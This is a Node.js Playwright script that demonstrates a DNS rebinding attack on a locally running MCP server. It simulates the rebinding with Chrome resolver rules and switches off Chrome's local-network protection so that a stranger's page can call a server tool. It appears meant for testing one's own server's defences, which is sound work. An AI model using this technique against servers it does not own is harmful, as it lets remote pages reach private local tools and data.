// A page of a stranger calls a tool of your server, by DNS rebinding. Start your server before. The page runs in a real
// browser: in Chrome, or in the Chromium that the environment variable CHROMIUM names.
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

const { port } = new URL(process.argv[2] ?? 'http://127.0.0.1:3000/mcp');
const executablePath = process.env.CHROMIUM;

/** The stranger's address. It has the port of your server, because a page may ask only the port that it came from. */
const stranger = `http://rebound.example:${port}/`;

const browser = await chromium.launch({
  ...(executablePath ? { executablePath } : { channel: 'chrome' }),
  // How the stranger's name server answers from the second question on: rebound.example is your own machine.
  args: [
    '--host-resolver-rules=MAP rebound.example 127.0.0.1',
    // New versions of Chrome refuse by themselves what a public page sends to this machine; other browsers do not.
    `--ip-address-space-overrides=127.0.0.1:${port}=public`,
    '--no-sandbox',
  ],
});
const page = await browser.newPage();
// How it has answered the first question: rebound.example is the stranger's machine, which delivers this page.
await page.route(stranger, (route) => route.fulfill({ path: fileURLToPath(new URL('attack.html', import.meta.url)) }));
await page.goto(stranger);
console.log(`${page.url()} is open in the browser, and gets from your server:`);
console.log(await page.locator('output:not(:empty)').textContent());
await browser.close();
